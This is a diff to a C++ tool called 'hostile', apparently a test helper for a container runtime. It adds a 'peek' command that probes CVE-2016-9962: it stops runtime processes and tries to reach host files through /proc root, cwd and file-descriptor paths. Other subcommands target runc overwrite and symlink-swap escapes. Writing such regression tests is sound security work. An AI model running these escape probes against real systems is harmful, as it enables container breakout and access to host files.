@@ -3,6 +3,10 @@
 //   hostile catch             takes hold of every program of another file that shows up in the container, and
 //   tries to write
 //                             to it once it has ended (CVE-2019-5736); tells what came of it
+//   hostile peek PATH         looks through every process of the runtime's that shows up in the container for
+//   a way to the host's
+//                             file PATH and for capabilities that make one (CVE-2016-9962); tells what it
+//                             found
 //   hostile swap A B          exchanges two names for ever, as fast as it can (CVE-2021-30465)
 //   hostile listen ADDRESS PORT      tells the address that each datagram claims to be from
 //   hostile spoof FROM TO PORT       sends a datagram under an address that need not be its own
@@ -15,6 +19,7 @@
 #include <net/if.h>
 #include <netinet/ip.h>
 #include <netinet/udp.h>
+#include <signal.h>
 #include <sys/ioctl.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
@@ -31,6 +36,7 @@ namespace {
 
 constexpr int kMostPids = 400;  // numbers in a young pid namespace
 constexpr int kTries = 200000;
+constexpr int kMostDescriptors = 64;
 
 void tell(const char* what, int error) {
   std::printf("%s %s\n", what, error == 0 ? "ok" : ::strerrorname_np(error));
@@ -65,6 +71,57 @@ void overwrite(int held) {
       ::close(held);
     }
   }
+}
+
+bool is_runtime(const std::string& process) {
+  char name[32] = {};
+  const int fd = ::open((process + "/comm").c_str(), O_RDONLY | O_CLOEXEC);
+  if (fd < 0) return false;
+  const ssize_t n = ::read(fd, name, sizeof name - 1);
+  ::close(fd);
+  return n > 0 && std::string(name).rfind("compose-monitor", 0) == 0;
+}
+
+// "CapPrm:\t00000000a80425fb" (man 5 proc_pid_status)
+bool may_administer(const std::string& process) {
+  constexpr unsigned long long kSysAdmin = 1ULL << 21;
+  FILE* const status = std::fopen((process + "/status").c_str(), "re");
+  char line[256];
+  unsigned long long mask = 0;
+  while (status != nullptr && std::fgets(line, sizeof line, status) != nullptr)
+    if (std::sscanf(line, "CapPrm: %llx", &mask) == 1) break;
+  if (status != nullptr) std::fclose(status);
+  return (mask & kSysAdmin) != 0;
+}
+
+void peek_by(const std::string& way, const std::string& path) {
+  const int fd = ::open((way + path).c_str(), O_RDONLY | O_CLOEXEC);
+  if (fd < 0) return;
+  std::printf("reached the host by %s\n", way.c_str());
+  std::fflush(stdout);
+  ::close(fd);
+}
+
+void peek_into(int pid, const std::string& path) {
+  const std::string process = "/proc/" + std::to_string(pid);
+  if (!is_runtime(process) || ::kill(pid, SIGSTOP) != 0) return;
+  if (is_runtime(process)) {
+    const std::string up = "/../../../../../../../../../..";
+    if (may_administer(process)) std::puts("found CAP_SYS_ADMIN");
+    peek_by(process + "/root", path);
+    peek_by(process + "/cwd" + up, path);
+    for (int fd = 0; fd < kMostDescriptors; ++fd) peek_by(process + "/fd/" + std::to_string(fd) + up, path);
+    std::puts("looked");
+    std::fflush(stdout);
+  }
+  ::kill(pid, SIGCONT);
+}
+
+[[noreturn]] void peek(const std::string& path) {
+  std::puts("ready");
+  std::fflush(stdout);
+  for (;;)
+    for (int pid = 2; pid < kMostPids; ++pid) peek_into(pid, path);
 }
 
 [[noreturn]] void swap(const char* a, const char* b) {
@@ -189,10 +246,11 @@ int send_frame(const char* gateway, const char* to, int port) {
 int main(int argc, char** argv) {
   const std::string what = argc > 1 ? argv[1] : "";
   if (what == "catch" && argc == 2) catch_programs();
+  if (what == "peek" && argc == 3) peek(argv[2]);
   if (what == "swap" && argc == 4) swap(argv[2], argv[3]);
   if (what == "listen" && argc == 4) listen_to(argv[2], std::atoi(argv[3]));
   if (what == "spoof" && argc == 5) return spoof(argv[2], argv[3], std::atoi(argv[4]));
   if (what == "frame" && argc == 5) return send_frame(argv[2], argv[3], std::atoi(argv[4]));
-  std::fprintf(stderr, "hostile: expected catch, swap, listen, spoof or frame, and what they take\n");
+  std::fprintf(stderr, "hostile: expected catch, peek, swap, listen, spoof or frame, and what they take\n");
   return 2;
 }
